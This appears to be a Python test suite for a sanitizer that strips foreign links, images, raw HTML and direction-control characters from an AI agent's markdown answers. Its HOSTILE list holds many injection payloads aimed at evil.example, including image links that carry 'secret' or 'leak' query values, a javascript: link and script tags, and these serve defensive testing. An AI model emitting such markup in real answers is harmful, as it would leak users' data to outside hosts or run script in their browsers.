"""An answer leads nowhere but to documents that were read, however a link is spelt."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.answer_text import (
    DocumentLinks,
    hide_number,
    safe_text,
    show_numbers,
    without_private,
)

LINKS = DocumentLinks("https://notes.example/site/", ["os/死锁/", "a b/"])

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p",
    "[x](https://evil.example/)",
    "[x](//evil.example/)",
    "[x](HTTPS://evil.example)",
    "[x](&#104;ttps://evil.example)",
    "[x](https&colon;//evil.example)",
    "[x](\\//evil.example)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,hi)",
    "[x](https://notes.example/site/os/死锁/?leak=1)",
    "[x](https://notes.example/site/../other/)",
    "[x](https://notes.example.evil.example/site/os/死锁/)",
    "[x](https://notes.example@evil.example/)",
    "[x][r]\n\n[r]: <https://evil.example/a b>",
    "[x][r]\n\n> [r]: https://evil.example",
    "[r]\n\n[r]:\nhttps://evil.example",
    "<https://evil.example>",
    "<user@evil.example>",
    "https://evil.example/path",
    "see www.evil.example now",
    '<img src="https://evil.example">',
    "<IMG\nSRC=https://evil.example>",
    "<script>alert(1)</script>",
    "<div onclick=x>\n\n[x](https://evil.example)\n\n</div>",
    "<!-- --><img src=x>",
    "<a href='https://evil.example'>x</a>",
    "a ` b\n`![x](https://evil.example)` c",
    "``a` ![x](https://evil.example)",
    "~~~\ncode\n~~~\n![x](https://evil.example)",
    "[a\n](https://evil.example)",
    "[a [b] c](https://evil.example)",
    "[![i](https://evil.example)](https://evil.example)",
    "[x](<https://evil.example>)",
    "[x](\nhttps://evil.example\n)",
    "| a |\n| - |\n| ![x](https://evil.example) |",
    "- item\n\n  [x](https://evil.example)",
    "(https://evil.example)",
    "`https://evil.example",
    "*https://evil.example*",
    "&#60;img src=https://evil.example&#62;",
]


def leads(markdown: str) -> list[str]:
    """Where a page made of this would load from or lead to, by a parser of its own settings."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    found: list[str] = []
    for token in parser.parse(markdown):
        for each in (token, *(token.children or ())):
            if each.type in ("html_block", "html_inline"):
                found.append(each.content)
            elif each.type == "image":
                found.append(str(each.attrGet("src")))
            elif each.type == "link_open":
                found.append(str(each.attrGet("href")))
            elif each.type == "text":
                found += re.findall(r"(?:https?://|www\.)\S+", each.content)
    return found


@pytest.mark.parametrize("answer", HOSTILE)
def test_nothing_foreign_is_left(answer: str) -> None:
    safe = safe_text(f"Before.\n\n{answer}\n\nAfter.", LINKS)
    assert leads(safe.text) == []
    assert safe.removed >= 1
    assert "Before." in safe.text.replace("\\", "")


@pytest.mark.parametrize(
    "link",
    [
        "[死锁](https://notes.example/site/os/死锁/)",
        "[死锁](https://notes.example/site/os/%E6%AD%BB%E9%94%81/#互斥)",
        "[死锁](os/死锁/)",
        "[死锁](/os/死锁/#a)",
    ],
)
def test_links_to_documents_that_were_read_stay(link: str) -> None:
    safe = safe_text(f"See {link}.", LINKS)
    assert safe.text == f"See {link}."
    assert safe.removed == 0


@pytest.mark.parametrize(
    "text",
    [
        "`![x](https://evil.example)` is how it is written",
        "```md\n![x](https://evil.example)\n<b>\n```",
        "plain words, 1 < 2, a [bracket], **bold**",
        "| a | b |\n| - | - |\n| `x` | y |",
    ],
)
def test_code_and_plain_words_stay_as_they_are(text: str) -> None:
    assert safe_text(text, LINKS).text == text


def test_what_a_link_said_is_kept() -> None:
    assert safe_text("the [whole story](https://evil.example) here", LINKS).text == (
        "the whole story here"
    )


def test_literal_numbers_do_not_pass_for_citations() -> None:
    text = f"as shown {hide_number(1)}, not [2], but `a[3]`"
    assert show_numbers(safe_text(text, LINKS).text) == "as shown [1], not \\[2], but `a[3]`"


def test_a_model_cannot_forge_hidden_numbers() -> None:
    assert show_numbers(without_private(hide_number(7))) == "7"


def test_marks_of_direction_and_control_are_gone() -> None:
    assert safe_text("a\u202eb\x00c\u2066d", LINKS).text == "abcd"


_MARKS = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    "`",
    "``",
    "\\",
    "&#91;",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "|",
]
_WORDS = ["x", " ", ":", "[r]:", "img src="]
_ADDRESSES = ["https://evil.example", "//evil.example", "www.evil.example"]
_BITS = st.lists(st.sampled_from([*_MARKS, *_WORDS, *_ADDRESSES]), max_size=24)


@given(_BITS)
def test_no_combination_of_marks_lets_a_foreign_address_through(bits: list[str]) -> None:
    assert [lead for lead in leads(safe_text("".join(bits), LINKS).text) if "evil" in lead] == []


@given(st.text(max_size=200))
def test_making_safe_twice_finds_nothing_more_to_lead_away(text: str) -> None:
    assert leads(safe_text(safe_text(text, LINKS).text, LINKS).text) == []
